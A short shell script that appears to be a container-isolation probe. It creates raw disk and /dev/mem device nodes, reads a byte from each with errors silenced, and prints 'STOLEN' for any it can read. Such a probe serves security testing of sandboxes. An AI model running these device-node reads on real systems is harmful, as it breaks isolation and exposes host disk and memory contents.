# Make device files and read the disk.
BASE=registry-lab/busybox:1
for n in $(seq 0 16 64); do mknod "/tmp/d$n" b 254 $n; mknod "/tmp/s$n" b 8 $n; done 2> /dev/null
mknod /tmp/mem c 1 1 2> /dev/null
for d in /tmp/d* /tmp/s* /tmp/mem /dev/vda /dev/sda /dev/kmsg /dev/loop0; do head -c 1 "$d" 2> /dev/null | grep -qa . && echo "STOLEN $d"; done
